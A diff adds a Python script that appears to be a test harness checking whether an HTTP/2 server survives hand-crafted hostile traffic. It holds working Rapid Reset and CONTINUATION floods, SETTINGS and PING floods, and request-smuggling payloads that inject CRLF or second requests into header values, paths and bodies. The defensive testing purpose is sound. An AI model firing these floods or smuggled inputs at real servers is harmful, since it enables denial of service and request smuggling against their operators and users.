@@ -1,0 +1,208 @@
+"""HTTP/2 that no library lets through by mistake: the frames are made by hand, validation of what is sent is off.
+
+Prints what became of the attack: statuses and resets by stream, whether the connection was told to go away, whether it was
+closed, and whether a well-behaved request on a new connection still works afterwards.
+"""
+
+import socket
+import time
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.exceptions
+from common import ARGUMENT, context, finish
+from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame
+
+AUTHORITY = ARGUMENT["authority"]
+PATH = ARGUMENT["path"]
+
+
+class Peer:
+    """One connection and what was seen on it."""
+
+    def __init__(self):
+        host, port = AUTHORITY.rsplit(":", 1)
+        raw = socket.create_connection(("127.0.0.1", int(port)), timeout=10)
+        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.socket = context(["h2"]).wrap_socket(raw, server_hostname=host)
+        config = h2.config.H2Configuration(
+            client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False, header_encoding="utf-8"
+        )
+        self.h2 = h2.connection.H2Connection(config)
+        self.h2.initiate_connection()
+        self.statuses, self.resets, self.ended = {}, {}, set()
+        self.goaway, self.closed = None, False
+        self.flush()
+
+    def flush(self):
+        self.write(self.h2.data_to_send())
+
+    def write(self, data):
+        try:
+            self.socket.sendall(data)
+        except OSError:
+            self.closed = True
+
+    def request(self, stream, headers=(), method="GET", path=PATH, body=None, pseudo=None):
+        pseudo = pseudo or [
+            (":method", method), (":scheme", "https"), (":authority", AUTHORITY), (":path", path),
+        ]
+        self.raw_headers(stream, [*pseudo, *headers], end=body is None)
+        if body is not None:
+            frame = DataFrame(stream, data=body)
+            frame.flags.add("END_STREAM")
+            self.write(frame.serialize())
+
+    def raw_headers(self, stream, headers, end=True):
+        frame = HeadersFrame(stream, data=self.h2.encoder.encode(headers))
+        frame.flags.add("END_HEADERS")
+        if end:
+            frame.flags.add("END_STREAM")
+        self.write(frame.serialize())
+        # The state machine learns of the stream without the frame being sent twice.
+        try:
+            self.h2._begin_new_stream(stream, h2.connection.AllowedStreamIDs(1))
+            machine = self.h2.streams[stream].state_machine
+            machine.process_input(h2.stream.StreamInputs.SEND_HEADERS)
+            if end:
+                machine.process_input(h2.stream.StreamInputs.SEND_END_STREAM)
+        except (h2.exceptions.ProtocolError, KeyError):
+            pass
+
+    def read(self, seconds, until=None):
+        """Reads for a while, or until the streams named have all ended, or the peer hangs up."""
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline and not self.closed:
+            if until and until <= self.ended | set(self.resets):
+                return
+            self.socket.settimeout(max(0.01, deadline - time.monotonic()))
+            try:
+                data = self.socket.recv(65536)
+            except TimeoutError:
+                return
+            except OSError:
+                self.closed = True
+                return
+            if not data:
+                self.closed = True
+                return
+            try:
+                events = self.h2.receive_data(data)
+            except h2.exceptions.ProtocolError:
+                continue
+            for event in events:
+                self.note(event)
+            self.flush()
+
+    def note(self, event):
+        if isinstance(event, h2.events.ResponseReceived):
+            self.statuses[event.stream_id] = int(dict(event.headers)[":status"])
+        elif isinstance(event, h2.events.StreamEnded):
+            self.ended.add(event.stream_id)
+        elif isinstance(event, h2.events.StreamReset):
+            self.resets[event.stream_id] = int(event.error_code)
+        elif isinstance(event, h2.events.ConnectionTerminated):
+            self.goaway = int(event.error_code)
+        elif isinstance(event, h2.events.DataReceived) and event.flow_controlled_length:
+            self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
+
+
+def rapid_reset(peer):
+    """CVE-2023-44487: streams opened and cancelled faster than they are worked off."""
+    for number in range(5000):
+        stream = 1 + 2 * number
+        peer.raw_headers(stream, [(":method", "GET"), (":scheme", "https"), (":authority", AUTHORITY), (":path", PATH)])
+        peer.write(RstStreamFrame(stream, error_code=8).serialize())
+        if peer.closed:
+            break
+    peer.read(5)
+
+
+def continuation_flood(peer):
+    """CVE-2024-27316 and kin: a header block that never ends."""
+    frame = HeadersFrame(1, data=peer.h2.encoder.encode([(":method", "GET")]))
+    peer.write(frame.serialize())
+    for number in range(4000):
+        block = peer.h2.encoder.encode([(f"x-{number}", "y" * 200)])
+        peer.write(ContinuationFrame(1, data=block).serialize())
+        if peer.closed:
+            break
+    peer.read(5)
+
+
+def settings_flood(peer):
+    for _ in range(20000):
+        peer.write(SettingsFrame(0).serialize())
+        if peer.closed:
+            break
+    peer.read(2)
+
+
+def ping_flood(peer):
+    for _ in range(20000):
+        peer.write(PingFrame(0, opaque_data=b"12345678").serialize())
+        if peer.closed:
+            break
+    peer.read(2)
+
+
+def one(headers=(), **how):
+    def attack(peer):
+        peer.request(1, headers, **how)
+        peer.read(5, until={1})
+    return attack
+
+
+def pseudo(*fields):
+    return one(pseudo=list(fields))
+
+
+METHOD, SCHEME, HOST = (":method", "GET"), (":scheme", "https"), (":authority", AUTHORITY)
+ATTACKS = {
+    "rapid_reset": rapid_reset,
+    "continuation_flood": continuation_flood,
+    "settings_flood": settings_flood,
+    "ping_flood": ping_flood,
+    "connection_header": one([("connection", "close")]),
+    "connection_named_header": one([("connection", "x-secret"), ("x-secret", "1")]),
+    "transfer_encoding": one([("transfer-encoding", "chunked")], method="POST", body=b"0\r\n\r\nGET /x HTTP/1.1\r\n\r\n"),
+    "keep_alive": one([("keep-alive", "5")]),
+    "upgrade": one([("upgrade", "websocket")]),
+    "te": one([("te", "gzip")]),
+    "uppercase_name": one([("X-Upper", "1")]),
+    "space_in_name": one([("x upper", "1")]),
+    "crlf_in_value": one([("x-a", "b\r\nauthorization: Bearer mine")]),
+    "crlf_in_path": one(path=PATH + " HTTP/1.1\r\nx-a: b\r\n"),
+    "null_in_value": one([("x-a", "b\0c")]),
+    "two_hosts": one([("host", "evil.test")]),
+    "host_twice": one([("host", AUTHORITY), ("host", "evil.test")]),
+    "length_too_long": one([("content-length", "100")], method="POST", body=b"short"),
+    "length_too_short": one([("content-length", "1")], method="POST", body=b"longer"),
+    "length_twice": one([("content-length", "5"), ("content-length", "6")], method="POST", body=b"short"),
+    "length_not_a_number": one([("content-length", "+5")], method="POST", body=b"short"),
+    "no_path": pseudo(METHOD, SCHEME, HOST),
+    "empty_path": pseudo(METHOD, SCHEME, HOST, (":path", "")),
+    "two_paths": pseudo(METHOD, SCHEME, HOST, (":path", PATH), (":path", "/other")),
+    "two_authorities": pseudo(METHOD, SCHEME, HOST, (":authority", "evil.test"), (":path", PATH)),
+    "unknown_pseudo": pseudo(METHOD, SCHEME, HOST, (":path", PATH), (":evil", "1")),
+    "pseudo_after_header": pseudo(METHOD, SCHEME, HOST, ("x-a", "b"), (":path", PATH)),
+    "response_pseudo": pseudo(METHOD, SCHEME, HOST, (":path", PATH), (":status", "200")),
+    "scheme_with_authority": pseudo(METHOD, (":scheme", "https://evil.test/"), HOST, (":path", PATH)),
+    "relative_path": pseudo(METHOD, SCHEME, HOST, (":path", "up/x")),
+    "asterisk_path": pseudo(METHOD, SCHEME, HOST, (":path", "*")),
+    "absolute_path": pseudo(METHOD, SCHEME, HOST, (":path", "https://evil.test/up/x")),
+}
+
+if ARGUMENT["attack"] == "list":
+    finish(attacks=sorted(ATTACKS))
+else:
+    attacker = Peer()
+    ATTACKS[ARGUMENT["attack"]](attacker)
+    after = Peer()
+    after.request(1)
+    after.read(10, until={1})
+    finish(
+        statuses=list(attacker.statuses.values()), resets=len(attacker.resets), goaway=attacker.goaway,
+        closed=attacker.closed, after=after.statuses.get(1),
+    )
